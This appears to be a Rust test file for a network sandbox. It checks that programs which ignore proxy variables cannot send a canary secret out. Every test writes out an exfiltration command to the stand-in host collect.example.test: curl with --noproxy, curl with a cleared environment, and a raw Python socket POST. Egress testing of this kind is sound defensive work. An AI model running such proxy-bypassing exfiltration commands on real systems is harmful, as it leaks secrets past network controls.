//! Programs that ignore proxy variables.

use crate::ground::{Ground, python};

#[test]
fn curl_without_a_proxy() {
    Ground::new()
        .nothing_gets_out("curl --noproxy '*' -sS -m 10 -d {canary} http://collect.example.test/");
}

#[test]
fn curl_without_a_proxy_over_tls() {
    Ground::new().nothing_gets_out(
        "curl --noproxy '*' -ksS -m 10 -d {canary} https://collect.example.test/",
    );
}

#[test]
fn a_secret_in_the_path_of_a_get() {
    Ground::new()
        .nothing_gets_out("curl --noproxy '*' -sS -m 10 http://collect.example.test/{canary}");
}

#[test]
fn a_cleared_environment() {
    Ground::new().nothing_gets_out(
        "env -i /usr/bin/curl -sS -m 10 -d {canary} http://collect.example.test/",
    );
}

#[test]
fn a_hand_written_request() {
    Ground::new().nothing_gets_out(&python(
        "
import socket
s = socket.create_connection(('collect.example.test', 80), timeout=10)
s.sendall(b'POST /{canary} HTTP/1.1\\r\\nHost: collect.example.test\\r\\nContent-Length: 1\\r\\n\\r\\nx')
print(s.recv(1000))
",
    ));
}
